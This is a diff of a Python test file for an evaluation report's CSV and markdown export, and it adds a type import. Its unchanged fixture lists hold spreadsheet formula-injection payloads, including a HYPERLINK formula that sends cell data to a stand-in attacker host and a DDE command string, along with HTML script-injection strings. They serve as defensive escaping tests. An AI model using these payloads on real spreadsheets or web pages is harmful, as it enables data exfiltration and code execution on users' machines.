@@ -13,7 +13,7 @@ import re
 import pytest
 
 from flowkit.eval.metrics import QuestionResult
-from flowkit.eval.report import build_report, csv_cell, md_text, to_csv, to_markdown
+from flowkit.eval.report import EvalReport, build_report, csv_cell, md_text, to_csv, to_markdown
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
             "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
@@ -22,7 +22,7 @@ HTML = ['<script>alert(1)</script>', '<img src=x onerror="alert(1)">',
         "<http://evil.example/auto>", "`code` **bold** | pipe"]
 
 
-def _report(texts: list[str], title: str = "") -> object:
+def _report(texts: list[str], title: str = "") -> EvalReport:
     rows = {f: [QuestionResult(flow=f, question_id=f"q{i}", question=t, answers=[t],
                                prediction=t if f == "a" else "other", status="ok", type=t,
                                em=1.0 if f == "a" else 0.0, f1=0.5, acc=1.0, recall=None,
